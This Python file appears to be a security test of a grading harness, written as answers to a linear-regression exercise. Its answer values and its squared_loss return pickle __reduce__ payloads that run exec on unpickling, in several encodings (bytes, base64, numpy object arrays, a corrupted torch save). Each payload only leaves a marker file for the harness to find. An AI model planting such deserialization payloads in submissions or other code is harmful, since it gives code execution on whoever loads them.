# Payloads that run code in whoever unpickles them, as bytes, as text, as numpy objects, as torch files, as __reduce__.
# What it would run leaves a file where the harness looks for what is left.
import base64
import io
import os
import pickle

import numpy
import torch


class Payload:
    def __reduce__(self):
        return (exec, ("import tempfile; open(tempfile.gettempdir() + '/unpickled', 'w').close()",))


payload = pickle.dumps(Payload())
saved = io.BytesIO()
torch.save({"weight": torch.zeros(2, 1)}, saved)


def synthetic_data(w, b, num_examples):
    X = torch.normal(0, 1, (num_examples, len(w)))
    y = X @ w + b
    return X, (y + torch.normal(0, 0.01, y.shape)).reshape(-1, 1)

def squared_loss(y_hat, y):
    squared_loss.calls = getattr(squared_loss, "calls", 0) + 1
    return (
        payload,
        base64.b64encode(payload).decode(),
        Payload(),
        numpy.array([Payload()], dtype=object),
        numpy.frombuffer(payload, dtype="V1"),
        saved.getvalue().replace(b"weight", payload[:6]),
        Payload,
    )[squared_loss.calls % 7]


def sgd(params, lr, batch_size):
    with torch.no_grad():
        for param in params:
            param -= lr * param.grad / batch_size
            param.grad.zero_()

broadcasting_answer = Payload()
weight_shape = numpy.array([Payload(), Payload()], dtype=object)
bias_shape = (1,)
